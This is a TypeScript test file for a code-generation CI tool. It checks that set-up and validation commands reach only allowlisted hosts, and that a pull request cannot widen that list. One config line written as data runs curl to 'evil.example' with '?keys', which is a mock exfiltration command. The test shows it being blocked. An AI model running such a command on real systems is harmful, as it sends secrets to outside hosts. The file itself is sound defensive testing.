/** A set-up that needs a registry, a command that tries to reach somebody else, and a pull that would like to let it. */
import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test } from "@jest/globals";
import { dropTemplate } from "../doubles/embedded-template.ts";
import { start } from "../doubles/start.ts";
import { openPull } from "./pull.ts";

test("listed hosts are reached by set-up and commands, others are named in the check that asked, whatever the pull says", async () => {
  const asked: string[] = [];
  const registry = createServer((request, response) => {
    asked.push(`${request.headers.host?.split(":")[0]} ${request.url}`);
    response.end("a package\n");
  });
  registry.listen(0, "127.0.0.1");
  await once(registry, "listening");
  const { port } = registry.address() as AddressInfo;
  const file = (...hosts: string[]) =>
    [
      `environment: { setup: ['curl -sSf http://registry.example:${port}/package >package.txt', 'curl -s http://stats.example/ || true'], network: [${hosts.join(", ")}] }`,
      "agent: { max_attempts: 0 }",
      "validation:",
      "  fail_on: any",
      "  commands:",
      "    - { name: install, run: 'cat package.txt' }",
      `    - { name: leak, run: 'curl -sSf http://evil.example:${port}/?keys || curl -sSf http://evil.example:${port}/?again' }`,
      "    - { name: offline, run: 'curl -sSf --noproxy \"*\" http://direct.example/' }",
      "",
    ].join("\n");
  const story = await start({
    files: { ".codegen.yml": file(`registry.example:${port}`) },
    variables: { CODEGEN_PRIVATE_HOSTS: `*.example.org, registry.example:${port}, evil.example:${port}` },
    replace: ({ network }) => ({ network: { ...network, lookup: () => Promise.resolve(["127.0.0.1"]) } }),
  });
  try {
    const opened = file(`registry.example:${port}`, `evil.example:${port}`);
    const pull = await openPull(story, ".codegen.yml", opened);
    await story.drain();
    const checks = new Map((await story.checkRuns(pull.head.sha)).map((check) => [check.name, check]));
    expect([...checks].map(([name, { conclusion }]) => `${name}: ${conclusion}`).toSorted()).toEqual([
      "codegen / config: neutral",
      "codegen / install: success",
      "codegen / leak: failure",
      "codegen / offline: failure",
    ]);
    expect(checks.get("codegen / install")?.output.text).toContain("a package");
    expect(checks.get("codegen / install")?.output.summary).toMatch(
      /`curl -s [^`]* true` tried to reach\n\n- `stats\.example:80`: not in `environment\.network`/,
    );
    expect(checks.get("codegen / leak")?.output.summary).toContain(
      `tried to reach\n\n- \`evil.example:${port}\` (2×): not in \`environment.network\``,
    );
    expect(checks.get("codegen / offline")?.output.summary).toContain(
      "tried to reach `direct.example` and could not find it",
    );
    expect(checks.get("codegen / offline")?.output.summary).not.toContain("evil.example");
    expect(asked).toEqual(["registry.example /package"]);
  } finally {
    registry.close();
    await story.finish();
    await dropTemplate();
  }
}, 60_000);
